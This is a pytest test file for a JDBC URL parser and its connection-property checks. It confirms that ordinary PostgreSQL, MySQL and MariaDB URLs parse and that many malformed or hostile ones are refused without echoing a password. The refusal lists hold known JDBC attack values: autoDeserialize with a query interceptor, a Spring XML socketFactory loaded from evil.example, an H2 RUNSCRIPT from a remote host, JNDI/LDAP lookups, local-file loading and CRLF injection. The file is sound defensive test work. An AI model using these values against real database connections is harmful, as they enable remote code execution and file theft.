"""JDBC URLs and properties: those that people have work, and what another reader may take for more is refused."""

from __future__ import annotations

from typing import Any

import pytest

from metalake.errors import Invalid
from providers.jdbc.provider import MySQLProvider, PostgreSQLProvider
from providers.jdbc.url import MYSQL_TLS, POSTGRES_TLS, JdbcUrl, Tls, parse_jdbc_url
from tests.cases import each
from tests.providers.network.hostile import METADATA, ODD

SECRET = "hunter2"
MYSQL = {"mysql": "mysql", "mariadb": "mysql"}
POSTGRESQL = {"postgresql": "postgresql"}
PG = PostgreSQLProvider

# As the drivers' own documents spell them.
GOOD = [
    ("jdbc:postgresql://db.example/sales", "db.example", 5432, "sales", Tls.PREFER),
    ("jdbc:postgresql://db.example:5433/sales?ssl=true", "db.example", 5433, "sales", Tls.VERIFY),
    ("jdbc:postgresql://db.example/sales?sslmode=require&ApplicationName=x", "db.example", 5432, "sales", Tls.REQUIRE),
    ("jdbc:postgresql://db.example:5432/", "db.example", 5432, "", Tls.PREFER),
    ("jdbc:postgresql://[2a00:1450::1]:5432/sales", "2a00:1450::1", 5432, "sales", Tls.PREFER),
    ("jdbc:postgresql://8.8.8.8/sales?currentSchema=public&sslmode=disable", "8.8.8.8", 5432, "sales", Tls.OFF),
    ("jdbc:mysql://db.example:3306", "db.example", 3306, "", Tls.PREFER),
    ("jdbc:mysql://DB.example:3306/sales?useSSL=false", "db.example", 3306, "sales", Tls.OFF),
    ("jdbc:mysql://db.example/?sslMode=VERIFY_IDENTITY", "db.example", 3306, "", Tls.VERIFY),
    ("jdbc:mysql://db.example/a-b_c.d?sslMode=REQUIRED&useUnicode=true", "db.example", 3306, "a-b_c.d", Tls.REQUIRE),
    ("jdbc:mysql://db.example/s?useSSL=true&verifyServerCertificate=true", "db.example", 3306, "s", Tls.VERIFY),
    ("jdbc:mysql://db.example/s?useSSL=true&verifyServerCertificate=false", "db.example", 3306, "s", Tls.REQUIRE),
    ("jdbc:mysql://db.example/s?serverTimezone=Europe/Vienna&tinyInt1isBit=true", "db.example", 3306, "s", Tls.PREFER),
    ("jdbc:mariadb://db.example:3307/sales?sslMode=verify-full", "db.example", 3307, "sales", Tls.VERIFY),
    ("jdbc:mariadb://db.example/sales?sslMode=trust", "db.example", 3306, "sales", Tls.REQUIRE),
]

# Behind jdbc:<scheme>://; `{S}` stands for what may be a secret.
FORMS = [
    "", "/", "/sales", ":5432/sales", "?user=x", "//db.example/sales", "db.example:/sales", "db.example:65536/sales",
    "db.example:5432x/sales", "db.example:{S}/sales", "db.example:5432:{S}/sales", "db.example,db2.example/sales",
    "db.example:5432,db2.example:5432/sales", "(host=db.example,port=5432)/sales",
    "address=(host=db.example)(port=5432)/sales", "address=(protocol=tcp)(host=db.example)(password={S})/sales",
    "(address=(host=db.example))/sales", "[(host=db.example,user=x,password={S})]/sales",
    "[db.example,db2.example]/sales", "user:{S}@db.example/sales", "@db.example/sales", "user:{S}@[db.example]/sales",
    "%2Ftmp%2Fmysql.sock/sales", "/tmp/mysql.sock", "localhost%2f/sales", "db%2eexample/sales", "db%252eexample/sales",
    "db.example/sales%00", "db.example/%2e%2e", "db.example/a b", "db.example/a/b", "db.example/sales/../x",
    "db.example/sales;user=x;password={S}", "db.example;password={S}/sales", "db.example/sales#{S}", "db.example#{S}",
    'db.example/sa"les', "db.example/sa`les", "db.example/sa\\les", "db.example\\@evil/sales", "db.example/<x>",
    "db.example/sales\r\nX: {S}", "db.example/sales\n", "\ndb.example/sales", "db.example\t/sales", "db.example/\x00",
    "db.example\x00.evil/sales", "db.example/sales\x7f", "db.example/sal\u00e9s", "db.example/sales\u202e",
    "db\u3002example/sales", "db.example/sales\u200b", "\uff44b.example/sales", "db.example/" + "a" * 65,
    "db.example/" + "a" * 3000, "db.example/dbname=x host=evil", "db.example/postgres://evil",
    "db.example/sales??ssl=true", "db.example/sales&ssl=true",
]  # fmt: skip

PARAMETERS = [
    "user=x", "password={S}", "PASSWORD={S}", "PassWord={S}", "jdbc-password={S}", "{S}", "={S}", "&",
    "ssl=true&&ssl=true", "ssl=true&SSL=true", "ssl", "ssl=", "ssl=1", "sslmode={S}", "sslmode=verify-ca",
    "sslmode=disable&ssl=true", "sslMode=DISABLED&useSSL=true", "allowLoadLocalInfile=true",
    "ALLOWLOADLOCALINFILE=true", "allow%4CoadLocalInfile=true", "allow%254CoadLocalInfile=true", "useSSL=true&{S}",
    "allowLoadLocalInfileInPath=/", "allowMultiQueries=true", "autoDeserialize=true",
    "queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor",
    "socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
    "socketFactoryArg=http://evil.example/x.xml", "sslfactory=x", "sslpasswordcallback=x", "sslpassword={S}",
    "sslkey=/etc/x", "authenticationPluginClassName=x", "loggerFile=/srv/www/x.jsp", "options=-c",
    "options=-csearch_path=evil", "host=evil.example", "hostaddr=127.0.0.1", "dbname=evil", "passfile=/etc/x",
    "targetServerType=any", "localSocket=/tmp/mysql.sock", "socksProxyHost=evil.example", "init_command=x",
    "sessionVariables=sql_mode=x", "trustCertificateKeyStoreUrl=file:/etc/passwd",
    "clientCertificateKeyStoreUrl=http://evil.example", "serverRSAPublicKeyFile=/etc/passwd", "ApplicationName=a\tb",
    "ApplicationName=" + "a" * 129, "ApplicationName=%0a", "ApplicationName=x;password={S}", "ApplicationName=(x)",
    "useSSL =true", " useSSL=true", "use.SSL=true", "user%3Dx", "ssl=true;user=x", "ssl=true#user=x",
    "ssl=true?user=x", "ssl=true,user=x", "\u017fsl=true",
]  # fmt: skip

SUBPROTOCOLS = [
    "", "jdbc", "jdbc:", "postgresql://db.example/sales", "mysql://user:{S}@db.example/sales",
    "JDBC:postgresql://db.example/sales", "jdbc:PostgreSQL://db.example/sales", "jdbc:postgres://db.example/sales",
    "jdbc:postgresql:sales", "jdbc:postgresql:/", "jdbc:postgresql:/db.example/sales",
    "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'", "jdbc:oracle:thin:x/{S}@db.example:1521/x",
    "jdbc:sqlserver://db.example;password={S}", "jdbc:db2://db.example/x:clientRerouteServerListJNDIName=ldap://evil;",
    "jdbc:mysql:loadbalance://db.example/sales", "jdbc:mariadb:sequential:db.example/sales",
    "jdbc:mysqlx://db.example/sales", "jdbc:mysql://", "jdbc:mysql:", "jdbc::mysql://db.example/",
    "jdbc:aws-wrapper:postgresql://db.example/x", "jdbc:snowflake://db.example/?password={S}",
    "jndi:ldap://evil.example/x", "jdbc:jdbc:mysql://db.example/x", " jdbc:mysql://db.example/x",
    "jdbc:mysql ://db.example/x", "jdbc:mysql:\\\\db\\x", "url=jdbc:mysql://db.example/x", "file:///etc/passwd",
    "jdbc:mysql:///sales", "jdbc:mysql://\x00",
]  # fmt: skip


def parsed(url: str) -> JdbcUrl:
    is_mysql = not url.startswith("jdbc:postgresql")
    return parse_jdbc_url(url, MYSQL if is_mysql else POSTGRESQL, MYSQL_TLS if is_mysql else POSTGRES_TLS)


def refuse(url: str) -> None:
    for schemes, tls in ((MYSQL, MYSQL_TLS), (POSTGRESQL, POSTGRES_TLS)):
        with pytest.raises(Invalid) as refusal:
            parse_jdbc_url(url.replace("{S}", SECRET), schemes, tls)
        assert SECRET not in refusal.value.message
        assert refusal.value.message.isprintable()


class TestUrl:
    @each("url, host, port, database, tls", GOOD)
    def test_what_people_have_is_read(self, url: str, host: str, port: int, database: str, tls: Tls) -> None:
        read = parsed(url)
        assert (read.endpoint.host, read.endpoint.port, read.database, read.tls) == (host, port, database, tls)

    @each("form", FORMS)
    @each("scheme", ["postgresql", "mysql"])
    def test_a_form_with_a_second_reading_is_refused(self, form: str, scheme: str) -> None:
        refuse(f"jdbc:{scheme}://{form}")

    @each("parameters", PARAMETERS)
    @each("scheme", ["postgresql", "mysql"])
    def test_a_parameter_that_is_not_known_is_refused(self, parameters: str, scheme: str) -> None:
        refuse(f"jdbc:{scheme}://db.example/sales?{parameters}")

    @each("url", SUBPROTOCOLS)
    def test_other_subprotocols_are_refused(self, url: str) -> None:
        refuse(url)

    @each("host", METADATA + ODD)
    def test_a_metadata_address_is_refused_whatever_is_allowed(self, settings: Any, host: str) -> None:
        settings.METALAKE_REMOTE_ALLOW = ("0.0.0.0/0", "::/0")
        refuse(f"jdbc:mysql://{host}:3306/sales")
        refuse(f"jdbc:postgresql://{host}/sales")


GIVEN = {"jdbc-url": "jdbc:postgresql://db.example/sales", "jdbc-user": "x", "jdbc-password": SECRET}
WRONG: dict[str, list[str | None]] = {
    "jdbc-url": [None], "jdbc-user": [None, "", "x\0y"], "jdbc-password": [None, "", f"{SECRET}\0"],
    "jdbc-driver": ["", "org.h2.Driver", "com.mysql.cj.jdbc.Driver", "org.postgresql.driver"],
    "jdbc-database": ["other", "x" * 65], "jdbc.pool.min-size": ["-1", "ten", "NaN", "1 or 1"],
    "jdbc.pool.max-size": ["0", "-1", "1001", "ten", "", "1e2", "0x10", "5.0", " 5", "9" * 99],
}  # fmt: skip


class TestProperties:
    @each("name, value", [(name, value) for name, values in WRONG.items() for value in values])
    def test_one_that_is_wrong_or_missing_is_named_and_not_repeated(self, name: str, value: str | None) -> None:
        given = {key: text for key, text in (GIVEN | {name: value}).items() if text is not None}
        with pytest.raises(Invalid, match=f"{name}|login") as refusal:
            PG.check(given)
        assert SECRET not in refusal.value.message

    @each("name", ["jdbc-URL", "jdbc_url", "jdbc.url", "jdbc-pasword", "jdbc-passwords", "JDBC-USER",
                   "jdbc.pool.maxsize", "jdbc.pool.max_size", "jdbc-data-base", "jdbc-drivers"])  # fmt: skip
    def test_a_near_miss_is_refused(self, name: str) -> None:
        with pytest.raises(Invalid) as refusal:
            PG.check(GIVEN | {name: SECRET})
        assert SECRET not in refusal.value.message

    def test_what_upstream_sends_is_accepted(self) -> None:
        PG.check(GIVEN | {"jdbc-driver": "org.postgresql.Driver", "jdbc-database": "sales"})
        pools = {"jdbc.pool.min-size": "2", "jdbc.pool.max-size": "10"}
        MySQLProvider.check(GIVEN | pools | {"jdbc-url": "jdbc:mysql://db.example", "jdbc-database": "sales"})
